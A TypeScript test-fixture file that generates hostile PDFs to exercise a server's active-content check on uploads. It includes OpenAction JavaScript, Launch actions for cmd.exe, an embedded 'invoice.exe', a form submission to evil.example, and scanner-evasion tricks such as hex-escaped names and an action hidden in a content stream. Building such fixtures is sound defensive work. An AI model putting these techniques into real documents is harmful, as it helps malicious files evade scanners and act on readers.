import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PDFDocument, PDFHexString, PDFName, type PDFObject, type PDFPage, PDFString } from 'pdf-lib';
import { activeContentOf } from '#server/services/pdf-active-content.ts';

/*
 * PDFs that try to act on their readers, made here and now with pdf-lib, as an attacker would upload
 * them: each is otherwise a whole, valid PDF with a page of text. pdf-lib saves with compressed object
 * streams by default, so the dictionaries below are not visible in the raw bytes unless `plain`.
 */

type Options = { plain?: boolean };

async function pdfWith(
  change: (document: PDFDocument, page: PDFPage) => void | Promise<void>,
  options: Options = {},
) {
  const document = await PDFDocument.create();
  const page = document.addPage([300, 400]);
  page.drawText('An innocent page', { x: 40, y: 300 });
  await change(document, page);
  return Buffer.from(await document.save({ useObjectStreams: !options.plain }));
}

const script = "app.alert('pwned'); this.exportDataObject({ cName: 'a', nLaunch: 2 });";

/** A link annotation over the page whose action is `action`. */
function linkWith(document: PDFDocument, page: PDFPage, action: PDFObject) {
  const link = document.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [40, 280, 260, 320],
    Border: [0, 0, 0],
    A: action,
  });
  page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
}

export const hostilePdfs = {
  /** JavaScript run when the document opens (the catalogue's /OpenAction). */
  openActionJavaScript: (options?: Options) =>
    pdfWith((document) => {
      const action = document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) });
      document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
    }, options),

  /** A link whose action launches a program. */
  launchAnnotation: (options?: Options) =>
    pdfWith((document, page) => {
      linkWith(
        document,
        page,
        document.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), NewWindow: true }),
      );
    }, options),

  /** A file embedded in the document (the names tree's /EmbeddedFiles). */
  embeddedFile: (options?: Options) =>
    pdfWith(async (document) => {
      await document.attach(Buffer.from('MZ not really a program'), 'invoice.exe', {
        mimeType: 'application/octet-stream',
        description: 'Open me',
      });
    }, options),

  /**
   * A link whose URI action opens `uri`: a literal string as written (escapes and all), or a hex string
   * of its text when `hex`.
   */
  uriLink: (uri: string, options: Options & { hex?: boolean } = {}) =>
    pdfWith((document, page) => {
      const target = options.hex ? PDFHexString.fromText(uri) : PDFString.of(uri);
      linkWith(document, page, document.context.obj({ S: 'URI', URI: target }));
    }, options),

  /** Document-level JavaScript in the names tree (/Names /JavaScript). */
  namesTreeJavaScript: () =>
    pdfWith((document) => {
      const action = document.context.register(
        document.context.obj({ S: 'JavaScript', JS: PDFString.of(script) }),
      );
      const tree = document.context.obj({ Names: [PDFString.of('init'), action] });
      document.catalog.set(
        PDFName.of('Names'),
        document.context.obj({ JavaScript: document.context.register(tree) }),
      );
    }),

  /** A page's additional actions (/AA): JavaScript run when the page opens. */
  pageAdditionalActions: () =>
    pdfWith((document, page) => {
      page.node.set(
        PDFName.of('AA'),
        document.context.obj({ O: { S: 'JavaScript', JS: PDFString.of(script) } }),
      );
    }),

  /** A link that sends form data to another server. */
  submitForm: () =>
    pdfWith((document, page) => {
      const action = document.context.obj({
        S: 'SubmitForm',
        F: { FS: 'URL', F: PDFString.of('https://evil.example/') },
      });
      linkWith(document, page, action);
    }),

  /** A rich-media (Flash, video) annotation. */
  richMedia: () =>
    pdfWith((document, page) => {
      const annotation = document.context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 10, 10] });
      page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(annotation)]));
    }),

  /** An XFA form in the AcroForm, which runs scripts of its own. */
  xfaForm: () =>
    pdfWith((document) => {
      const xfa = document.context.register(
        document.context.flateStream('<xdp:xdp><script>1</script></xdp:xdp>'),
      );
      document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ Fields: [], XFA: xfa }));
    }),

  /**
   * The /OpenAction JavaScript with its names written in hex escapes (`/Java#53cript`, `/J#53`), which
   * every reader decodes, saved without object streams: no raw `/JavaScript` or `/JS` in the bytes.
   */
  escapedNames: async () => {
    const bytes = (await hostilePdfs.openActionJavaScript({ plain: true })).toString('latin1');
    const escaped = bytes.replace('/S /JavaScript', '/S /Java#53cript').replace('/JS (', '/J#53 (');
    if (escaped === bytes || escaped.includes('/JavaScript') || escaped.includes('/JS ')) {
      throw new Error('the names to escape were not found');
    }
    return Buffer.from(escaped, 'latin1');
  },

  /**
   * A launch action written inside another object's stream, where a parser reading object after object
   * never looks, but where the cross-reference table, which readers follow, points the /OpenAction.
   */
  hiddenInStream: (action = '<< /Type /Action /S /Launch /F (cmd.exe) >>') => {
    const hidden = `5 0 obj\n${action}\nendobj\n`;
    const content = `BT /F1 12 Tf 40 300 Td (An innocent page) Tj ET\n% ${hidden}`;
    const parts = [
      '%PDF-1.7\n',
      '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n',
      '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
      '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R >>\nendobj\n',
      `4 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`,
    ];
    const offsets: number[] = [];
    let body = '';
    for (const part of parts) {
      offsets.push(body.length);
      body += part;
    }
    const hiddenAt = body.indexOf(hidden);
    const entry = (offset: number) => `${String(offset).padStart(10, '0')} 00000 n \n`;
    const xref = [
      'xref\n0 6\n0000000000 65535 f \n',
      ...offsets.slice(1).map(entry),
      entry(hiddenAt),
      'trailer\n<< /Size 6 /Root 1 0 R >>\n',
      `startxref\n${body.length}\n%%EOF\n`,
    ].join('');
    return Buffer.from(body + xref, 'latin1');
  },
};

/**
 * A harmless PDF that uses what books do: an /OpenAction that only shows the first page, a link to a
 * web page, a link to another page of the same document.
 */
export const linkedPdf = () =>
  pdfWith((document, page) => {
    const second = document.addPage([300, 400]);
    second.drawText('Chapter 2', { x: 40, y: 300 });
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj([page.ref, 'Fit']));
    const web = document.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [40, 280, 260, 320],
      A: { S: 'URI', URI: PDFString.of('https://shop.example/books/1') },
    });
    const inside = document.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [40, 200, 260, 240],
      A: { S: 'GoTo', D: [second.ref, 'Fit'] },
    });
    page.node.set(
      PDFName.of('Annots'),
      document.context.obj([document.context.register(web), document.context.register(inside)]),
    );
  });

let folder: string | undefined;
let counter = 0;
/** Writes `bytes` to a file of its own, as an upload lands on disk; answers its path. */
export function pdfOnDisk(bytes: Uint8Array): string {
  folder ??= mkdtempSync(path.join(tmpdir(), 'bookshop-pdf-active-'));
  counter += 1;
  const file = path.join(folder, `${counter}.pdf`);
  writeFileSync(file, bytes);
  return file;
}

/** What the active-content check finds in `bytes`, parsed as uploads are. */
export const activeIn = async (bytes: Buffer) =>
  activeContentOf(await PDFDocument.load(new Uint8Array(bytes), { updateMetadata: false }), bytes);
